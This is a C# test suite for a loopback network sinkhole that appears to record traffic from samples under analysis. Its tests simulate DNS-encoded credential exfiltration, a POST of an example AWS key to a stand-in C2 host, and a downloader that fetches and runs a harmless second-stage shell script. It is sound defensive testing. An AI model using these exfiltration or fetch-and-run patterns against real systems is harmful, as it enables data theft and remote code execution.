using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using DynamicProbe.Sinkhole.Tests.Support;

namespace DynamicProbe.Sinkhole.Tests.Loopback;

/// <summary>The catcher in this process on 127.0.0.1, with the NAT table faked: a client's view and the records.</summary>
public class LoopbackCatcherTests
{
    private InProcessSinkhole _sinkhole = null!;

    [SetUp]
    public void Start() => _sinkhole = InProcessSinkhole.Start();

    [TearDown]
    public async Task Stop() => await _sinkhole.DisposeAsync();

    [Test]
    public async Task The_ready_record_names_the_ports_it_listens_on()
    {
        var records = await _sinkhole.WaitAsync(r => r.Count > 0);

        var ready = records[0];
        Assert.That(ready.Text("type"), Is.EqualTo("ready"));
        Assert.That(ready.GetProperty("tcp_port").GetInt32(), Is.EqualTo(_sinkhole.Catcher.TcpPort).And.Not.Zero);
        Assert.That(ready.GetProperty("udp_port").GetInt32(), Is.EqualTo(_sinkhole.Catcher.UdpPort).And.Not.Zero);
        Assert.That(ready.GetProperty("dns_port").GetInt32(), Is.EqualTo(_sinkhole.Catcher.DnsPort).And.Not.Zero);
        Assert.That(ready.GetProperty("pid").GetInt32(), Is.EqualTo(Environment.ProcessId));
    }

    [Test]
    public async Task A_dns_query_is_answered_with_a_fake_address_and_recorded_exactly_as_asked()
    {
        const string name = "QUtJQUlPU0ZPRE5ON0VYQU1QTEU.Exfil.example.com";
        using var client = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        client.Connect(_sinkhole.Dns);
        await client.SendAsync(DnsPackets.Query(name, 1, id: 4242));
        var buffer = new byte[512];
        var response = buffer[..await client.ReceiveAsync(buffer, SocketFlags.None)];

        var address = new IPAddress(DnsPackets.AnswerData(response));
        Assert.That(DnsPackets.Id(response), Is.EqualTo(4242));
        Assert.That(IPNetwork.Parse("198.18.0.0/15").Contains(address), Is.True);
        var records = await _sinkhole.WaitAsync(r => r.OfType("dns").Any());
        var dns = records.OfType("dns").Single();
        Assert.That(dns.Text("name"), Is.EqualTo(name));
        Assert.That(dns.Text("qtype"), Is.EqualTo("A"));
        Assert.That(dns.Text("transport"), Is.EqualTo("udp"));
        Assert.That(dns.Text("rcode"), Is.EqualTo("NOERROR"));
        Assert.That(dns.Text("answer"), Is.EqualTo(address.ToString()));
        Assert.That(dns.GetProperty("src_port").GetInt32(), Is.EqualTo(((IPEndPoint)client.LocalEndPoint!).Port));
    }

    [Test]
    public async Task An_http_get_to_a_faked_name_gets_a_second_stage_and_is_recorded_with_the_name()
    {
        var response = await _sinkhole.AskAsync(DnsPackets.Query("dl.example.com", 1));
        var address = new IPAddress(DnsPackets.AnswerData(response));
        _sinkhole.Originals.Tcp = new IPEndPoint(address, 80);
        var request = "GET /stage2.sh HTTP/1.1\r\nHost: dl.example.com\r\n\r\n"u8.ToArray();

        using var client = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        await client.SendAsync(request);
        var reply = Encoding.ASCII.GetString(await ClientSockets.ReadToEndAsync(client));
        var sourcePort = ((IPEndPoint)client.LocalEndPoint!).Port;
        client.Close();

        Assert.That(reply, Does.StartWith("HTTP/1.1 200 OK\r\n"));
        Assert.That(reply, Does.EndWith("\r\n\r\n#!/bin/sh\necho second-stage-ran\n"));
        var records = await _sinkhole.WaitAsync(r => r.OfType("tcp").Any());
        var tcp = records.OfType("tcp").Single();
        Assert.That(tcp.Text("dst_address"), Is.EqualTo(address.ToString()));
        Assert.That(tcp.GetProperty("dst_port").GetInt32(), Is.EqualTo(80));
        Assert.That(tcp.Text("dst_from"), Is.EqualTo("conntrack"));
        Assert.That(tcp.Text("dns_name"), Is.EqualTo("dl.example.com"));
        Assert.That(tcp.GetProperty("http").GetProperty("target").GetString(), Is.EqualTo("/stage2.sh"));
        Assert.That(tcp.GetProperty("http").GetProperty("host").GetString(), Is.EqualTo("dl.example.com"));
        Assert.That(tcp.Text("response"), Is.EqualTo("http"));
        Assert.That(tcp.GetProperty("first_bytes_base64").GetBytesFromBase64(), Is.EqualTo(request));
        Assert.That(tcp.GetProperty("total_bytes").GetInt64(), Is.EqualTo(request.Length));
        Assert.That(tcp.GetProperty("truncated").GetBoolean(), Is.False);
        Assert.That(tcp.Text("end"), Is.EqualTo("closed"));
        Assert.That(tcp.GetProperty("src_port").GetInt32(), Is.EqualTo(sourcePort));
    }

    [Test]
    public async Task A_downloader_that_runs_what_it_fetched_runs_the_harmless_second_stage()
    {
        _sinkhole.Originals.Tcp = new IPEndPoint(IPAddress.Parse("203.0.113.10"), 80);
        using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(10) };
        var script = await http.GetStringAsync(new Uri($"http://127.0.0.1:{_sinkhole.Catcher.TcpPort}/payload/install.sh"));
        var path = Path.Combine(TestContext.CurrentContext.WorkDirectory, $"stage2-{Guid.NewGuid():N}.sh");
        await File.WriteAllTextAsync(path, script);
        try
        {
            using var shell = Process.Start(new ProcessStartInfo("sh", [path]) { RedirectStandardOutput = true })!;
            var output = await shell.StandardOutput.ReadToEndAsync();
            await shell.WaitForExitAsync();

            Assert.That(shell.ExitCode, Is.Zero);
            Assert.That(output, Is.EqualTo("second-stage-ran\n"));
        }
        finally
        {
            File.Delete(path);
        }

        var records = await _sinkhole.WaitAsync(r => r.OfType("tcp").Any());
        Assert.That(records.OfType("tcp").Single().GetProperty("http").GetProperty("target").GetString(), Is.EqualTo("/payload/install.sh"));
    }

    [Test]
    public async Task A_post_expecting_continue_is_told_to_go_on_and_its_body_is_captured()
    {
        _sinkhole.Originals.Tcp = new IPEndPoint(IPAddress.Parse("198.51.100.20"), 8080);
        var head = "POST /collect HTTP/1.1\r\nHost: c2.example.net\r\nContent-Length: 22\r\nExpect: 100-continue\r\n\r\n"u8.ToArray();
        var body = "AKIAIOSFODNN7EXAMPLE=1"u8.ToArray();

        using var client = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        await client.SendAsync(head);
        var interim = await ClientSockets.ReadAtLeastAsync(client, "\r\n\r\n");
        await client.SendAsync(body);
        var reply = Encoding.ASCII.GetString(await ClientSockets.ReadToEndAsync(client));

        Assert.That(interim, Does.StartWith("HTTP/1.1 100 Continue"));
        Assert.That(reply, Does.StartWith("HTTP/1.1 200 OK").And.EndWith("\r\n\r\nok\n"));
        var tcp = (await _sinkhole.WaitAsync(r => r.OfType("tcp").Any())).OfType("tcp").Single();
        Assert.That(tcp.GetProperty("first_bytes_base64").GetBytesFromBase64(), Is.EqualTo(head.Concat(body).ToArray()));
        Assert.That(tcp.GetProperty("http").GetProperty("method").GetString(), Is.EqualTo("POST"));
    }

    [Test]
    public async Task A_tls_client_hello_gets_a_handshake_alert_and_its_sni_is_recorded()
    {
        _sinkhole.Originals.Tcp = new IPEndPoint(IPAddress.Parse("203.0.113.30"), 443);

        using var client = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        await client.SendAsync(ClientHellos.Curl);
        var reply = await ClientSockets.ReadAtLeastAsync(client, "\u0028");

        Assert.That(Encoding.Latin1.GetBytes(reply), Is.EqualTo(new byte[] { 0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x28 }));
        client.Close();
        var tcp = (await _sinkhole.WaitAsync(r => r.OfType("tcp").Any())).OfType("tcp").Single();
        Assert.That(tcp.Text("sni"), Is.EqualTo(ClientHellos.CurlServerName));
        Assert.That(tcp.Text("response"), Is.EqualTo("tls-alert"));
        Assert.That(tcp.GetProperty("total_bytes").GetInt64(), Is.EqualTo(ClientHellos.Curl.Length));
    }

    [Test]
    public async Task Dns_over_tcp_to_port_53_is_answered_query_by_query()
    {
        _sinkhole.Originals.Tcp = new IPEndPoint(IPAddress.Parse("192.0.2.53"), 53);
        var first = DnsPackets.Query("one.example.com", 1, id: 1);
        var second = DnsPackets.Query("two.example.com", 16, id: 2);

        using var client = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        await client.SendAsync(DnsPackets.U16(first.Length).Concat(first).Concat(DnsPackets.U16(second.Length)).Concat(second).ToArray());
        client.Shutdown(SocketShutdown.Send);
        var replies = await ClientSockets.ReadToEndAsync(client);

        var firstLength = (replies[0] << 8) | replies[1];
        var firstReply = replies.AsSpan(2, firstLength).ToArray();
        var secondReply = replies.AsSpan(4 + firstLength).ToArray();
        Assert.That(DnsPackets.Id(firstReply), Is.EqualTo(1));
        Assert.That(DnsPackets.Id(secondReply), Is.EqualTo(2));
        var records = await _sinkhole.WaitAsync(r => r.OfType("tcp").Any());
        Assert.That(records.OfType("dns").Select(d => (d.Text("name"), d.Text("transport"))),
            Is.EqualTo(new[] { ("one.example.com", "tcp"), ("two.example.com", "tcp") }));
        Assert.That(records.OfType("tcp").Single().Text("response"), Is.EqualTo("dns"));
    }

    [Test]
    public async Task A_udp_datagram_is_recorded_with_its_original_destination_and_name()
    {
        var address = new IPAddress(DnsPackets.AnswerData(await _sinkhole.AskAsync(DnsPackets.Query("udp.example.org", 1))));
        _sinkhole.Originals.Udp = new IPEndPoint(address, 9999);
        using var client = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);

        await client.SendToAsync("token=ghp_canary"u8.ToArray(), SocketFlags.None, _sinkhole.Udp);

        var udp = (await _sinkhole.WaitAsync(r => r.OfType("udp").Any())).OfType("udp").Single();
        Assert.That(udp.Text("dst_address"), Is.EqualTo(address.ToString()));
        Assert.That(udp.GetProperty("dst_port").GetInt32(), Is.EqualTo(9999));
        Assert.That(udp.Text("dst_from"), Is.EqualTo("conntrack"));
        Assert.That(udp.Text("dns_name"), Is.EqualTo("udp.example.org"));
        Assert.That(udp.GetProperty("first_bytes_base64").GetBytesFromBase64(), Is.EqualTo("token=ghp_canary"u8.ToArray()));
        Assert.That(udp.GetProperty("src_port").GetInt32(), Is.EqualTo(((IPEndPoint)client.LocalEndPoint!).Port));
    }

    [Test]
    public async Task A_udp_datagram_without_a_nat_record_says_its_destination_is_unknown()
    {
        using var client = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);

        await client.SendToAsync(new byte[70_000 / 2], SocketFlags.None, _sinkhole.Udp);

        var udp = (await _sinkhole.WaitAsync(r => r.OfType("udp").Any())).OfType("udp").Single();
        Assert.That(udp.GetProperty("dst_address").ValueKind, Is.EqualTo(JsonValueKind.Null), "loopback is where REDIRECT put it, not where it was going");
        Assert.That(udp.GetProperty("dst_port").ValueKind, Is.EqualTo(JsonValueKind.Null));
        Assert.That(udp.GetProperty("total_bytes").GetInt64(), Is.EqualTo(35_000));
        Assert.That(udp.GetProperty("first_bytes_base64").GetBytesFromBase64(), Has.Length.EqualTo(16 * 1024));
        Assert.That(udp.GetProperty("truncated").GetBoolean(), Is.True);
    }

    [Test]
    public async Task A_silent_connection_ends_idle_and_a_trickling_one_at_the_deadline()
    {
        _sinkhole.Originals.Tcp = new IPEndPoint(IPAddress.Parse("192.0.2.1"), 25);
        using var silent = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        using var trickle = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        var trickling = Task.Run(async () =>
        {
            for (var i = 0; i < 40; i++)
            {
                try
                {
                    await trickle.SendAsync("x"u8.ToArray());
                }
                catch (SocketException)
                {
                    return; // the catcher hung up: what the deadline is for
                }

                await Task.Delay(150);
            }
        });

        var records = await _sinkhole.WaitAsync(r => r.OfType("tcp").Count() == 2);
        await trickling;

        TestContext.Out.WriteLine(string.Join('\n', records.Select(r => r.GetRawText())));
        var ends = records.OfType("tcp").Select(t => (t.Text("end"), t.GetProperty("total_bytes").GetInt64())).ToList();
        Assert.That(ends, Does.Contain(("idle", 0L)));
        var deadline = records.OfType("tcp").Single(t => t.Text("end") == "deadline");
        Assert.That(deadline.GetProperty("duration_ms").GetInt64(), Is.InRange(2900, 4500));
        Assert.That(deadline.GetProperty("total_bytes").GetInt64(), Is.InRange(15, 25));
    }

    [Test]
    public void The_program_cannot_bind_the_catchers_udp_ports_to_take_its_own_datagrams_away()
    {
        // SO_REUSEADDR is what a thief of any uid could use; SO_REUSEPORT (the DNS pair) admits only the catcher's uid.
        foreach (var port in new[] { _sinkhole.Catcher.UdpPort, _sinkhole.Catcher.DnsPort })
        {
            using var thief = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
            thief.SetRawSocketOption(1, 2, BitConverter.GetBytes(1)); // SOL_SOCKET, SO_REUSEADDR

            Assert.That(() => thief.Bind(new IPEndPoint(IPAddress.Loopback, port)),
                Throws.TypeOf<SocketException>().With.Property("SocketErrorCode").EqualTo(SocketError.AddressAlreadyInUse));
        }
    }

    [Test]
    public async Task Stopping_records_the_connections_still_open_and_ends_the_file()
    {
        using var open = await ClientSockets.ConnectAsync(_sinkhole.Tcp);
        await open.SendAsync("partial"u8.ToArray());
        await Task.Delay(100);

        await _sinkhole.Catcher.StopAsync();

        var records = RecordLines.Read(_sinkhole.RecordsPath);
        Assert.That(records.OfType("tcp").Single().Text("end"), Is.EqualTo("shutdown"));
        Assert.That(records.OfType("tcp").Single().Text("dst_from"), Is.EqualTo("socket"), "no NAT record faked: the catcher's own address");
        Assert.That(records[^1].Text("type"), Is.EqualTo("stopped"));
    }
}
